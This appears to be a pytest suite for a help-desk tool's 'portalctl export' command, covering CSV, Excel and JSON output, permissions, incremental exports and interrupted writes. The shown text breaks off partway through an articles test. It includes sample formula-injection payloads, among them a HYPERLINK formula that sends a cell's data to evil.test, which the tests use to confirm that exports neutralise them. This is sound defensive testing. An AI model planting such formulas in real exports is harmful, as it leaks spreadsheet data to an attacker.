"""`portalctl export` as a user meets it: every format opened back with a real reader (openpyxl, csv, json) and
compared with the portal's own data; formulas neutralised; incremental runs; and a failed, interrupted or killed
export that leaves the previous file as it was.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from click.testing import Result

from portalctl.config import default_db
from portalctl.contract import TicketChanges, TicketDraft, TicketQuery
from portalctl.engine.portal import Portal, Session
from portalctl.exitcodes import ExitCode
from portalctl.model import STATES, FieldDef, Ticket
from tests.conftest import ADMIN, AGENT, ANA, BOB, CARLA, DIEGO

AsUser = Callable[[str], Session]
Cli = Callable[..., Result]
EVERY_STATE = TicketQuery(statuses=list(STATES), limit=None)
HOSTILE = ('=HYPERLINK("http://evil.test/?d="&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "\tx", "\rx")
FIELD = FieldDef(key="x", label="X", type="text", required=False, choices=[], pattern=None, customer_editable=True,
                 department=None, description=None)


# --- helpers -------------------------------------------------------------------------------------------------------


def ok(result: Result) -> Result:
    assert result.exit_code == 0, f"exit {result.exit_code}\nstdout: {result.stdout}\nstderr: {result.stderr}"
    return result


def portal_tickets(as_user: AsUser, user: str = ADMIN) -> list[Ticket]:
    return list(as_user(user).tickets.list(EVERY_STATE))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as stream:
        return list(csv.DictReader(stream))


def clocked(when: datetime) -> Portal:
    """The same portal file seen through a clock stopped at `when`: tickets get known times."""
    return Portal(default_db(), clock=lambda: when)


def create_at(when: datetime, user: str, **values: Any) -> Ticket:
    portal = clocked(when)
    try:
        return portal.session(user).tickets.create(TicketDraft(**values))
    finally:
        portal.close()


def leftovers(directory: Path) -> list[str]:
    """Temporary files an export may have left in `directory`."""
    return sorted(p.name for p in directory.iterdir() if p.name.endswith(".partial") or p.name.startswith("tmp"))


def summary_sections(ws: Any) -> dict[str, dict[str, int]]:
    """The Summary sheet's tables: {"State": {"open": 2, ...}, "Priority": {...}, ...}."""
    sections: dict[str, dict[str, int]] = {}
    current: dict[str, int] | None = None
    for key, value, *_ in ws.iter_rows(values_only=True):
        if value == "Tickets" and key in ("State", "Priority", "Department", "Month"):
            current = sections.setdefault(key, {})
        elif key is None:
            current = None
        elif current is not None:
            current[key] = value
    return sections


def next_second() -> None:
    """Portal times have one-second resolution: start the next step in a later second than the last."""
    time.sleep(1.02 - (time.time() % 1))


@pytest.fixture
def fields(as_user: AsUser) -> None:
    add = as_user(ADMIN).accounts.add_field
    add(replace(FIELD, key="user_code", label="User code", pattern=r"\d{4}"))
    add(replace(FIELD, key="channel", label="Channel", type="choice", choices=["web", "email"]))
    add(replace(FIELD, key="forms", label="Forms", type="multichoice", choices=["5412", "5413"]))
    add(replace(FIELD, key="amount", label="Amount", type="number"))
    add(replace(FIELD, key="deadline", label="Deadline", type="date"))
    add(replace(FIELD, key="note", label="Note", type="text"))


@pytest.fixture
def tickets(portal: Portal, as_user: AsUser, fields: None) -> list[Ticket]:
    """Tickets of both client companies in several states, with fields, tags, CCs and an internal note."""
    ana = as_user(ANA).tickets
    agent = as_user(AGENT).tickets
    first = ana.create(TicketDraft(subject="Factura 5412 rechazada", body="El valor FOB no cuadra", priority="high",
                       fields={"user_code": "0042", "channel": "web", "forms": "5412,5413", "amount": "12.5",
                               "deadline": "2025-03-01"}, ccs=[BOB]))
    agent.update(first.id, TicketChanges(add_tags=["factura", "urgente"], department="soporte-administrativo"))
    agent.reply(first.id, body="Revisando con aduanas", internal=True)
    agent.reply(first.id, body="¿Puede enviar el PDF corregido?")
    ana.reply(first.id, body="Adjunto el PDF")
    second = ana.create(TicketDraft(subject="VPN caída desde las 9:00", body="No conecta", priority="urgent",
                        department="soporte-web"))
    agent.update(second.id, TicketChanges(status="resolved"))
    closed = as_user(BOB).tickets.create(TicketDraft(subject="Alta de usuario", body="Para María", priority="low"))
    agent.close(closed.id)
    as_user(CARLA).tickets.create(TicketDraft(subject="Certificado SSL caducado", body="El navegador avisa"))
    as_user(DIEGO).tickets.create(TicketDraft(subject="Migración del correo", body="A Outlook",
                                              fields={"user_code": "7777"}))
    return portal_tickets(as_user)


# --- formats ---------------------------------------------------------------------------------------------------


class TestCsv:
    def test_every_ticket_every_state_matches_the_portal(self, tickets: list[Ticket], cli: Cli) -> None:
        result = ok(cli("export", "tickets", "-o", "tickets.csv"))
        assert result.stdout == ""
        assert result.stderr == "Exported 5 tickets to tickets.csv\n"
        rows = read_csv(Path("tickets.csv"))
        assert [int(r["id"]) for r in rows] == [t.id for t in tickets]  # closed included, newest change first
        for row, ticket in zip(rows, tickets, strict=True):
            assert row["subject"] == ticket.subject
            assert row["status"] == ticket.status
            assert row["priority"] == ticket.priority
            assert row["department"] == (ticket.department or "")
            assert row["organization"] == (ticket.organization or "")
            assert row["requester"] == ticket.requester
            assert row["ccs"] == ", ".join(ticket.ccs)
            assert row["tags"] == ", ".join(ticket.tags)
            assert row["created_at"] == ticket.created_at
            assert row["closed_at"] == (ticket.closed_at or "")
            assert row["overdue"] == ("yes" if ticket.overdue else "no")
            assert row["field:user_code"] == ticket.fields.get("user_code", "")
        factura = rows[[t.subject for t in tickets].index("Factura 5412 rechazada")]
        assert factura["field:forms"] == "5412, 5413"
        assert factura["field:amount"] == "12.5"
        assert factura["field:deadline"] == "2025-03-01"
        assert list(rows[0]) == [
            "id", "subject", "status", "priority", "type", "department", "organization", "requester",
            "requester_name", "assignee", "ccs", "tags", "created_at", "updated_at", "due_at", "overdue",
            "resolved_at", "closed_at", "follow_up_of", "field:user_code", "field:channel", "field:forms",
            "field:amount", "field:deadline", "field:note",
        ]

    def test_filters_columns_and_limit(self, tickets: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "open.csv", "--status", "open", "--org", "acme",
               "--columns", "id,subject,field:user_code"))
        rows = read_csv(Path("open.csv"))
        expected = [t for t in tickets if t.status == "open" and t.organization == "acme"]
        assert rows == [{"id": str(t.id), "subject": t.subject, "field:user_code": t.fields.get("user_code", "")}
                        for t in expected]
        ok(cli("export", "tickets", "-o", "two.csv", "--limit", "2", "--sort", "id"))
        assert [r["id"] for r in read_csv(Path("two.csv"))] == sorted(str(t.id) for t in tickets)[:2]

    def test_an_empty_export_still_has_its_header(self, portal: Portal, fields: None, cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "none.csv"))
        assert Path("none.csv").read_text(encoding="utf-8").startswith("id,subject,status,")
        assert read_csv(Path("none.csv")) == []

    def test_bom_for_excel_on_windows(self, tickets: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "bom.csv", "--bom"))
        assert Path("bom.csv").read_bytes().startswith(b"\xef\xbb\xbfid,subject")

    def test_comments_go_to_a_second_file(self, tickets: list[Ticket], as_user: AsUser, cli: Cli) -> None:
        result = ok(cli("export", "tickets", "-o", "t.csv", "--include-comments"))
        assert result.stderr == "Exported 5 tickets to t.csv (comments in t.comments.csv)\n"
        comments = read_csv(Path("t.comments.csv"))
        expected = [(t.id, c) for t in tickets for c in as_user(ADMIN).tickets.get(t.id).comments or []]
        assert [(int(r["ticket_id"]), int(r["id"])) for r in comments] == [(t, c.id) for t, c in expected]
        note = next(r for r in comments if r["body"] == "Revisando con aduanas")
        assert note["internal"] == "yes" and note["author"] == AGENT and note["author_role"] == "agent"


class TestExcel:
    def test_tickets_sheet_dates_style_filter_and_summary(self, portal: Portal, as_user: AsUser, fields: None,
                                                           cli: Cli) -> None:
        as_user(ADMIN).accounts.update_me(timezone="Europe/Madrid")
        created = datetime(2025, 1, 31, 23, 30, tzinfo=UTC)  # 1 February 00:30 in Madrid
        late = create_at(created, ANA, subject="Cierre de mes", body="Informe", fields={"user_code": "0042"},
                         tags=["informe", "mensual"], ccs=[BOB])
        create_at(datetime(2025, 3, 10, 9, tzinfo=UTC), CARLA, subject="Dominio .co", body="Renovar",
                  department="soporte-web", priority="urgent")
        resolved = create_at(datetime(2025, 3, 11, 9, tzinfo=UTC), DIEGO, subject="Correo", body="Buzón lleno")
        as_user(AGENT).tickets.update(resolved.id, TicketChanges(status="resolved"))

        result = ok(cli("export", "tickets", "-o", "report.xlsx"))
        assert result.stderr == "Exported 3 tickets to report.xlsx\n"
        book = openpyxl.load_workbook("report.xlsx")
        assert book.sheetnames == ["Tickets", "Summary"]
        sheet = book["Tickets"]
        headers = [c.value for c in sheet[1]]
        assert headers[:4] == ["ID", "Subject", "Status", "Priority"]
        assert "Created (Europe/Madrid)" in headers and "Updated (Europe/Madrid)" in headers
        assert headers[-6:] == ["User code", "Channel", "Forms", "Amount", "Deadline", "Note"]
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == late.id)
        cell = dict(zip(headers, row, strict=True))
        assert cell["Created (Europe/Madrid)"].value == datetime(2025, 2, 1, 0, 30)  # a real, naive local datetime
        assert cell["Created (Europe/Madrid)"].is_date
        assert cell["Tags"].value == "informe, mensual"
        assert cell["CCs"].value == BOB
        assert cell["User code"].value == "0042"
        assert cell["Overdue"].value in (True, False)
        header = sheet["A1"]
        assert header.font.b and header.fill.fill_type == "solid" and header.fill.fgColor.rgb.endswith("D9E1F2")
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(headers))}4"
        assert sheet.column_dimensions["B"].width >= len("Cierre de mes")
        assert sheet.column_dimensions["A"].width < sheet.column_dimensions["H"].width  # ID narrow, email wide

        everything = portal_tickets(as_user)
        madrid = ZoneInfo("Europe/Madrid")
        sections = summary_sections(book["Summary"])
        assert sections["State"] == {s: Counter(t.status for t in everything)[s] for s in STATES}
        assert sections["Priority"] == {"low": 0, "medium": 2, "high": 0, "urgent": 1}
        assert sections["Department"] == {"soporte-web": 1, "(none)": 2}
        assert sections["Month"] == {"2025-02": 1, "2025-03": 2}
        assert {datetime.fromisoformat(t.created_at).astimezone(madrid).strftime("%Y-%m") for t in everything} == {
            "2025-02", "2025-03"}
        assert book["Summary"]["B1"].value == 3
        charts = book["Summary"]._charts
        assert [c.type for c in charts] == ["bar", "col"]
        assert "Summary" in charts[0].series[0].val.numRef.f

    def test_profile_timezone_else_tz_else_utc(self, portal: Portal, as_user: AsUser, cli: Cli,
                                               monkeypatch: pytest.MonkeyPatch) -> None:
        create_at(datetime(2025, 6, 1, 12, tzinfo=UTC), ANA, subject="Hola", body="x")
        monkeypatch.delenv("TZ", raising=False)
        ok(cli("export", "tickets", "-o", "utc.xlsx"))
        assert openpyxl.load_workbook("utc.xlsx")["Tickets"]["M1"].value == "Created (UTC)"
        assert openpyxl.load_workbook("utc.xlsx")["Tickets"]["M2"].value == datetime(2025, 6, 1, 12)
        ok(cli("export", "tickets", "-o", "tz.xlsx", env={"TZ": "America/Bogota"}))
        assert openpyxl.load_workbook("tz.xlsx")["Tickets"]["M2"].value == datetime(2025, 6, 1, 7)
        as_user(ANA).accounts.update_me(timezone="Asia/Tokyo")
        ok(cli("export", "tickets", "-o", "me.xlsx", user=ANA, env={"TZ": "America/Bogota"}))
        sheet = openpyxl.load_workbook("me.xlsx")["Tickets"]
        assert (sheet["M1"].value, sheet["M2"].value) == ("Created (Asia/Tokyo)", datetime(2025, 6, 1, 21))

    def test_comments_sheet(self, tickets: list[Ticket], as_user: AsUser, cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "c.xlsx", "--include-comments"))
        book = openpyxl.load_workbook("c.xlsx")
        assert book.sheetnames == ["Tickets", "Comments", "Summary"]
        sheet = book["Comments"]
        assert [c.value for c in sheet[1]][:4] == ["Ticket", "Comment", "Created (UTC)", "Author"]
        bodies = [r[7] for r in sheet.iter_rows(min_row=2, values_only=True)]
        expected = [c.body for t in tickets for c in as_user(ADMIN).tickets.get(t.id).comments or []]
        assert bodies == expected
        assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:I{len(expected) + 1}"

    def test_an_empty_workbook_has_headers_and_zero_counts(self, portal: Portal, cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "empty.xlsx"))
        book = openpyxl.load_workbook("empty.xlsx")
        assert book["Tickets"].max_row == 1 and book["Tickets"]["A1"].value == "ID"
        assert summary_sections(book["Summary"])["State"] == dict.fromkeys(STATES, 0)


class TestJson:
    def test_jsonl_is_the_documented_record_per_line(self, tickets: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "t.jsonl"))
        lines = [json.loads(line) for line in Path("t.jsonl").read_text(encoding="utf-8").splitlines()]
        assert lines == [t.to_dict() for t in tickets]

    def test_json_is_one_array_and_columns_pick_fields(self, tickets: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "t.json", "--columns", "id,status,field:user_code,tags"))
        assert json.loads(Path("t.json").read_text(encoding="utf-8")) == [
            {"id": t.id, "status": t.status, "field:user_code": t.fields.get("user_code"), "tags": t.tags}
            for t in tickets
        ]

    def test_comments_inside_each_ticket(self, tickets: list[Ticket], as_user: AsUser, cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "c.jsonl", "--include-comments"))
        for line, ticket in zip(Path("c.jsonl").read_text(encoding="utf-8").splitlines(), tickets, strict=True):
            record = json.loads(line)
            full = as_user(ADMIN).tickets.get(ticket.id)
            assert record["comments"] == [c.to_dict() for c in full.comments or []]


class TestStdout:
    @pytest.mark.parametrize("fmt", ["csv", "jsonl", "json"])
    def test_dash_writes_to_stdout(self, tickets: list[Ticket], cli: Cli, fmt: str) -> None:
        result = ok(cli("export", "tickets", "-o", "-", "--format", fmt))
        assert result.stderr == "Exported 5 tickets to stdout\n"
        if fmt == "csv":
            ids = [int(r["id"]) for r in csv.DictReader(io.StringIO(result.stdout))]
        elif fmt == "jsonl":
            ids = [json.loads(line)["id"] for line in result.stdout.splitlines()]
        else:
            ids = [r["id"] for r in json.loads(result.stdout)]
        assert ids == [t.id for t in tickets]
        assert not leftovers(Path.cwd())

    def test_csv_is_the_default_on_stdout(self, tickets: list[Ticket], cli: Cli) -> None:
        assert ok(cli("export", "tickets", "-o", "-")).stdout.startswith("id,subject,")

    @pytest.mark.parametrize(("args", "message"), [
        (("-o", "-", "--format", "xlsx"), "xlsx cannot go to stdout"),
        (("-o", "-", "--include-comments"), "--include-comments with CSV writes a second file"),
        (("-o", "report.txt"), "cannot tell the format of report.txt"),
        (("-o", "t.json", "--bom"), "--bom is for CSV files only"),
        (("-o", "t.csv", "--columns", "id,nope"), "unknown column nope"),
        (("-o", "t.csv", "--status", "nope"), "unknown status 'nope'"),
        (("-o", "t.csv", "--department", "nope"), "unknown department 'nope'"),
        (("-o", "t.csv", "--incremental", "s.json", "--updated-since", "7d"), "not both"),
        (("-o", "t.csv", "--incremental", "s.json", "--limit", "5"), "would skip the tickets past the limit"),
    ])
    def test_bad_usage_is_exit_2_and_writes_nothing(self, tickets: list[Ticket], cli: Cli, args: tuple[str, ...],
                                                    message: str) -> None:
        result = cli("export", "tickets", *args)
        assert result.exit_code == ExitCode.USAGE, result.stderr
        assert message in result.stderr
        assert result.stdout == ""
        assert sorted(p.name for p in Path.cwd().iterdir()) == []

    def test_format_flag_wins_over_the_extension(self, tickets: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "data.txt", "--format", "jsonl"))
        assert len(Path("data.txt").read_text(encoding="utf-8").splitlines()) == 5


# --- formula injection ------------------------------------------------------------------------------------------


class TestFormulaNeutralisation:
    @pytest.fixture
    def hostile(self, as_user: AsUser, fields: None) -> list[Ticket]:
        """Subjects are stripped by the portal, so tab and CR arrive through a custom field and a reply."""
        made = []
        for text in HOSTILE:
            ticket = as_user(ANA).tickets.create(TicketDraft(subject=text.strip() or "x", body=text,
                                                             fields={"note": text}))
            as_user(AGENT).tickets.reply(ticket.id, body=text)
            made.append(ticket)
        return made

    # with comments the CSV is written from tickets; without, from rows SQLite neutralised (the embedded portal)
    @pytest.mark.parametrize("comments", [True, False], ids=["tickets", "rows"])
    def test_csv_cells_are_quoted_text(self, hostile: list[Ticket], cli: Cli, comments: bool) -> None:
        ok(cli("export", "tickets", "-o", "h.csv", "--sort", "id", *(["--include-comments"] if comments else [])))
        rows = read_csv(Path("h.csv"))
        assert [r["subject"] for r in rows] == ["'" + t.strip() for t in HOSTILE[:4]] + ["x", "x"]
        assert [r["field:note"] for r in rows] == ["'" + t for t in HOSTILE]
        if comments:
            bodies = [r["body"] for r in read_csv(Path("h.comments.csv"))]
            assert bodies == ["'" + t for t in HOSTILE for _ in (1, 2)]

    def test_excel_cells_are_text_with_the_quote_prefix_never_formulas(self, hostile: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "h.xlsx", "--include-comments", "--sort", "id"))
        book = openpyxl.load_workbook("h.xlsx")
        sheet = book["Tickets"]
        headers = [c.value for c in sheet[1]]
        subject, note = headers.index("Subject"), headers.index("Note")
        for row, text in zip(sheet.iter_rows(min_row=2), HOSTILE, strict=True):
            assert row[note].value == text.replace("\r", "\n") or row[note].value == text
            assert row[note].data_type == "s" and row[note].quotePrefix
            if text.strip()[0] in "=+-@":
                assert row[subject].value == text and row[subject].data_type == "s" and row[subject].quotePrefix
        for row in book["Comments"].iter_rows(min_row=2):
            assert row[7].data_type == "s" and row[7].quotePrefix
        with zipfile.ZipFile("h.xlsx") as archive:
            sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in xml and b"<f " not in xml for xml in sheets)

    def test_control_characters_excel_refuses_are_dropped(self, as_user: AsUser, fields: None, cli: Cli) -> None:
        as_user(ANA).tickets.create(TicketDraft(subject="Bell", body="x", fields={"note": "a\x07b\x00c <&> d"}))
        ok(cli("export", "tickets", "-o", "c.xlsx"))
        sheet = openpyxl.load_workbook("c.xlsx")["Tickets"]
        assert sheet.cell(2, [c.value for c in sheet[1]].index("Note") + 1).value == "abc <&> d"


# --- who sees what ----------------------------------------------------------------------------------------------


class TestVisibility:
    def test_a_customer_exports_only_their_own_and_no_internal_notes(self, tickets: list[Ticket], cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "ana.csv", "--include-comments", user=ANA))
        rows = read_csv(Path("ana.csv"))
        assert {r["requester"] for r in rows} == {ANA}
        bodies = {r["body"] for r in read_csv(Path("ana.comments.csv"))}
        assert "Revisando con aduanas" not in bodies and "Adjunto el PDF" in bodies
        ok(cli("export", "tickets", "-o", "ana.xlsx", "--include-comments", user=ANA))
        book = openpyxl.load_workbook("ana.xlsx")
        assert {r[7] for r in book["Comments"].iter_rows(min_row=2, values_only=True)} == bodies
        assert summary_sections(book["Summary"])["State"]["closed"] == 0
        ok(cli("export", "tickets", "-o", "ana.jsonl", "--include-comments", user=ANA))
        text = Path("ana.jsonl").read_text(encoding="utf-8")
        assert "Revisando con aduanas" not in text and CARLA not in text and DIEGO not in text

    def test_a_sharing_organisation_sees_its_colleagues_never_another_company(self, tickets: list[Ticket],
                                                                              cli: Cli) -> None:
        ok(cli("export", "tickets", "-o", "carla.csv", user=CARLA))
        assert {r["requester"] for r in read_csv(Path("carla.csv"))} == {CARLA, DIEGO}
        ok(cli("export", "tickets", "-o", "bob.csv", user=BOB))
        assert {r["subject"] for r in read_csv(Path("bob.csv"))} == {"Alta de usuario", "Factura 5412 rechazada"}


# --- incremental ------------------------------------------------------------------------------------------------


class TestIncremental:
    def test_only_what_changed_since_the_last_successful_run(self, portal: Portal, as_user: AsUser, cli: Cli) -> None:
        made = [as_user(ANA).tickets.create(TicketDraft(subject=f"Ticket {n}", body="x")) for n in range(3)]
        state = Path("state.json")
        next_second()
        first = ok(cli("export", "tickets", "-o", "run1.csv", "--incremental", str(state)))
        assert "first incremental run: every ticket" in first.stderr
        assert sorted(int(r["id"]) for r in read_csv(Path("run1.csv"))) == [t.id for t in made]
        recorded = json.loads(state.read_text())
        assert recorded["last_run"]["tickets"] == 3
        started = datetime.fromisoformat(recorded["updated_since"])
        assert abs((datetime.now(UTC) - started).total_seconds()) < 30

        second = ok(cli("export", "tickets", "-o", "run2.csv", "--incremental", str(state)))
        assert read_csv(Path("run2.csv")) == []
        assert f"changed since {recorded['updated_since']}" in second.stderr

        as_user(ANA).tickets.reply(made[1].id, body="Any news?")
        ok(cli("export", "tickets", "-o", "run3.xlsx", "--incremental", str(state)))
        sheet = openpyxl.load_workbook("run3.xlsx")["Tickets"]
        assert [r[0] for r in sheet.iter_rows(min_row=2, values_only=True)] == [made[1].id]

    def test_a_failed_export_does_not_advance_the_state(self, portal: Portal, as_user: AsUser, cli: Cli,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
        made = as_user(ANA).tickets.create(TicketDraft(subject="Old", body="x"))
        state = Path("state.json")
        next_second()
        ok(cli("export", "tickets", "-o", "t.csv", "--incremental", str(state)))
        before = state.read_bytes()
        next_second()
        as_user(ANA).tickets.reply(made.id, body="changed")

        missing = cli("export", "tickets", "-o", "no/such/dir/t.csv", "--incremental", str(state))
        assert missing.exit_code == ExitCode.ERROR and "no directory no/such/dir" in missing.stderr
        assert state.read_bytes() == before

        from portalctl.output import exporters

        def broken(self: Any, record: Any, comments: Any = None) -> None:
            raise OSError(28, "No space left on device")

        with monkeypatch.context() as patch:
            patch.setattr(exporters.CsvRows, "write_batch", broken)  # the embedded portal's CSV path
            full = cli("export", "tickets", "-o", "t.csv", "--incremental", str(state))
        assert full.exit_code == ExitCode.ERROR
        assert "could not write t.csv: No space left on device" in full.stderr
        assert state.read_bytes() == before
        ok(cli("export", "tickets", "-o", "t.csv", "--incremental", str(state)))
        assert [int(r["id"]) for r in read_csv(Path("t.csv"))] == [made.id]  # the change was not lost
        assert state.read_bytes() != before

    def test_a_damaged_state_file_is_a_clear_error(self, portal: Portal, cli: Cli) -> None:
        Path("state.json").write_text("{not json")
        result = cli("export", "tickets", "-o", "t.csv", "--incremental", "state.json")
        assert result.exit_code == ExitCode.USAGE
        assert "state.json is not a portalctl export state file" in result.stderr
        assert "delete it" in result.stderr
        assert not Path("t.csv").exists()


# --- atomic writes ----------------------------------------------------------------------------------------------


def fail_after(monkeypatch: pytest.MonkeyPatch, target: Any, name: str, rows: int, error: BaseException) -> None:
    """Make `target.name` raise `error` once it has written `rows` rows."""
    original = getattr(target, name)
    seen = {"rows": 0}

    def write(self: Any, *args: Any, **kwargs: Any) -> Any:
        seen["rows"] += 1
        if seen["rows"] > rows:
            raise error
        return original(self, *args, **kwargs)

    monkeypatch.setattr(target, name, write)


@pytest.fixture
def many(portal: Portal, as_user: AsUser) -> int:
    portal.conn.execute("PRAGMA synchronous = OFF")  # a fixture: speed over durability
    for n in range(300):
        as_user(ANA).tickets.create(TicketDraft(subject=f"Ticket {n}", body="x" * 200))
    return 300


class TestAtomic:
    @pytest.mark.parametrize("fmt", ["csv", "xlsx", "jsonl"])
    @pytest.mark.parametrize(("error", "code"), [(RuntimeError("boom"), ExitCode.ERROR),
                                                 (KeyboardInterrupt(), ExitCode.INTERRUPTED)])
    def test_a_failure_midway_keeps_the_previous_file(self, many: int, cli: Cli, monkeypatch: pytest.MonkeyPatch,
                                                      fmt: str, error: BaseException, code: int) -> None:
        from portalctl.output import exporters, xlsx

        target = Path(f"report.{fmt}")
        ok(cli("export", "tickets", "-o", str(target), "--limit", "5"))
        previous = target.read_bytes()
        # the embedded portal's CSV rows go out 200 at a time: the second batch fails
        method, calls = {"csv": ((exporters.CsvRows, "write_batch"), 1), "xlsx": ((xlsx.DataSheet, "append"), 150),
                         "jsonl": ((exporters.JsonlWriter, "write"), 150)}[fmt]
        fail_after(monkeypatch, *method, rows=calls, error=error)
        result = cli("export", "tickets", "-o", str(target))
        assert result.exit_code == code
        assert target.read_bytes() == previous
        assert leftovers(Path.cwd()) == []
        assert sorted(p.name for p in Path.cwd().iterdir()) == [target.name]

    def test_a_new_file_keeps_the_usual_permissions(self, many: int, cli: Cli) -> None:
        umask = os.umask(0o022)
        os.umask(umask)
        ok(cli("export", "tickets", "-o", "new.csv"))
        assert Path("new.csv").stat().st_mode & 0o777 == 0o666 & ~umask
        Path("new.csv").chmod(0o640)
        ok(cli("export", "tickets", "-o", "new.csv"))
        assert Path("new.csv").stat().st_mode & 0o777 == 0o640


class TestProgress:
    def stderr_on_a_terminal(self, home: Path, *args: str, **env: str) -> str:
        """Run a real export with stderr on a pseudo-terminal; what the terminal showed."""
        import pty

        leader, follower = pty.openpty()
        environ = {**os.environ, "PORTALCTL_HOME": str(home), "PORTALCTL_KEYRING": "0", "TERM": "xterm", **env}
        result = subprocess.run([sys.executable, "-m", "portalctl", "export", "tickets", *args], env=environ,
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=follower, timeout=60)
        os.close(follower)
        shown = b""
        with contextlib.suppress(OSError):
            while chunk := os.read(leader, 65536):
                shown += chunk
        os.close(leader)
        assert result.returncode == 0, shown
        return shown.decode()

    def test_a_count_on_a_terminal_and_only_there(self, many: int, home: Path, cli: Cli) -> None:
        shown = self.stderr_on_a_terminal(home, "-o", str(Path.cwd() / "t.csv"))
        assert "\r  [" in shown and f"200/{many} tickets" in shown and "ETA " in shown  # a bar, the total, an ETA
        assert shown.endswith(f"Exported {many} tickets to {Path.cwd() / 't.csv'}\r\n")
        quiet = self.stderr_on_a_terminal(home, "-o", str(Path.cwd() / "t.csv"), NO_COLOR="1")
        assert quiet == f"Exported {many} tickets to {Path.cwd() / 't.csv'}\r\n"
        piped = ok(cli("export", "tickets", "-o", "t.csv"))  # stderr not a terminal: the summary line only
        assert piped.stderr == f"Exported {many} tickets to t.csv\n"


class TestInterrupted:
    """A real `python -m portalctl export` process stopped mid-write by a signal."""

    TICKETS = 2500

    @pytest.fixture
    def big(self, portal: Portal, as_user: AsUser, cli: Cli) -> tuple[Path, bytes]:
        portal.conn.execute("PRAGMA synchronous = OFF")
        create = as_user(ANA).tickets.create
        agent = as_user(AGENT).tickets
        for n in range(self.TICKETS):
            ticket = create(TicketDraft(subject=f"Ticket {n}", body="Texto de la consulta " * 40))
            if n % 2:
                agent.reply(ticket.id, body="Respuesta del equipo " * 40)
        target = Path.cwd() / "big.csv"
        ok(cli("export", "tickets", "-o", str(target), "--limit", "10"))
        return target, target.read_bytes()

    @contextlib.contextmanager
    def start(self, target: Path) -> Iterator[subprocess.Popen[bytes]]:
        process = subprocess.Popen(
            [sys.executable, "-m", "portalctl", "export", "tickets", "-o", str(target), "--include-comments"],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
        )
        try:
            yield process
        finally:
            if process.poll() is None:
                process.kill()
            process.wait()
            assert process.stderr is not None
            process.stderr.close()

    def stop_mid_write(self, process: subprocess.Popen[bytes], target: Path) -> Path:
        """Wait until the export has flushed data to its temporary file, then freeze it there (SIGSTOP)."""
        pattern = f".{target.name}.{process.pid}.*.partial"
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            assert process.poll() is None, "the export ended before it could be interrupted"
            for partial in target.parent.glob(pattern):
                try:
                    if partial.stat().st_size > 0:
                        os.kill(process.pid, signal.SIGSTOP)
                        assert partial.exists(), "the export finished before it could be interrupted"
                        return partial
                except FileNotFoundError:
                    pass
            time.sleep(0.001)
        pytest.fail("the export never started writing")

    def test_sigkill_leaves_the_previous_file_byte_identical(self, big: tuple[Path, bytes], cli: Cli) -> None:
        target, previous = big
        with self.start(target) as process:
            partial = self.stop_mid_write(process, target)
            os.kill(process.pid, signal.SIGKILL)
            process.wait()
            assert process.returncode == -signal.SIGKILL
            assert target.read_bytes() == previous
            assert not (target.parent / "big.comments.csv").exists()
            assert partial.exists()  # SIGKILL cannot be caught: the next export to big.csv removes it
        result = ok(cli("export", "tickets", "-o", str(target), "--include-comments"))
        assert result.stderr.startswith(f"Exported {self.TICKETS} tickets to {target}")
        assert leftovers(target.parent) == []
        assert len(read_csv(target)) == self.TICKETS

    @pytest.mark.parametrize("signum", [signal.SIGTERM, signal.SIGINT, signal.SIGHUP])
    def test_a_catchable_signal_cleans_up_and_exits_130(self, big: tuple[Path, bytes], signum: int) -> None:
        target, previous = big
        with self.start(target) as process:
            self.stop_mid_write(process, target)
            os.kill(process.pid, signum)
            os.kill(process.pid, signal.SIGCONT)
            process.wait(timeout=60)
            assert process.stderr is not None
            assert process.returncode == ExitCode.INTERRUPTED, process.stderr.read()
            assert process.stderr.read().decode().strip().endswith("Interrupted.")
        assert target.read_bytes() == previous
        assert leftovers(target.parent) == []
        assert sorted(p.name for p in target.parent.iterdir()) == ["big.csv"]


# --- articles ---------------------------------------------------------------------------------------------------


class TestArticles:
    @pytest.fixture
    def kb(self, portal: Portal) -> None:
        add = portal.session(ADMIN).articles.add
        add(collection="Colombia", folder="Facturación", title="Factura electrónica", body="# Pasos\n\nUno",
            locale="es", labels=["dian"])
        add(collection="Colombia", folder="Facturación", title="=Cancelar CFDI", body="@body", locale="es")
        add(collection="International", folder="Getting started", title="Reset your password", body="Click")

    def test_every_format(self, kb: None, as_user: AsUser, cli: Cli) -> None:
        articles = list(as_user(ADMIN).articles.list())
        result = ok(cli("export", "articles", "-o", "kb.csv"))
        assert result.stderr == "Exported 3 articles to kb.csv\n"
        rows = read_csv(Path("kb.csv"))
        assert [r["id"] for r in rows] == [str(a.id) for a in articles]
        assert "'=Cancelar CFDI" in [r["title"] for r in rows]
        assert "body" not in rows[0]
        ok(cli("export", "articles", "-o", "kb.jsonl", "--body", "--locale", "es"))
        lines = [json.loads(line) for line in Path("kb.jsonl").read_text(encoding="utf-8").splitlines()]
        spanish = [as_user(ADMIN).articles.get(a.id) for a in as_user(ADMIN).articles.list(locale="es")]
